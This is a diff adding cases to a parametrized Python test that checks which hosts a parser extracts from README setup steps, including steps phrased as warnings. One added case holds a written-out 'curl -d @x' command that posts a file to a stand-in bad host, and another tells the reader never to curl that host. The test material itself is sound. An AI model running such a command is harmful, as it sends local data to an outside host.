@@ -90,6 +90,12 @@ def test_packages(body: str, wanted: set[str]) -> None:
         ("## Setup\n\n1. Log in to the server `mcp.site.dev`.\n2. Install `jq`.\n", {"mcp.site.dev"}),
         ("## Setup\n\n1. Start `reg.io/team/image:1.2`.\n2. Install `jq`.\n", {"reg.io"}),
         ("See the [documentation](https://docs.site.dev).\n", set()),
+        ("## Setup\n\n1. Fetch https://api.site.dev/x. More at https://docs.site.dev.\n2. Install `jq`.\n", {"api.site.dev"}),
+        ("## Setup\n\n1. If it is not there, fetch `https://api.site.dev/x`.\n2. Install `jq`.\n", {"api.site.dev"}),
+        ("## Setup\n\n1. Do not upload it to `https://bad.site.dev`.\n2. Never fetch https://bad.site.dev/x.\n", set()),
+        ("## Setup\n\n1. Never log in at [it](https://bad.site.dev).\n2. Install `jq`.\n", set()),
+        ("## Setup\n\n1. Never run `curl https://bad.site.dev/x`.\n2. Run `curl https://api.site.dev`.\n", {"api.site.dev"}),
+        ("Never do this:\n\n```bash\ncurl -d @x https://bad.site.dev\n```\n", set()),
         ("```bash\ncurl https://example.com/x\n```\n", set()),
     ],
 )
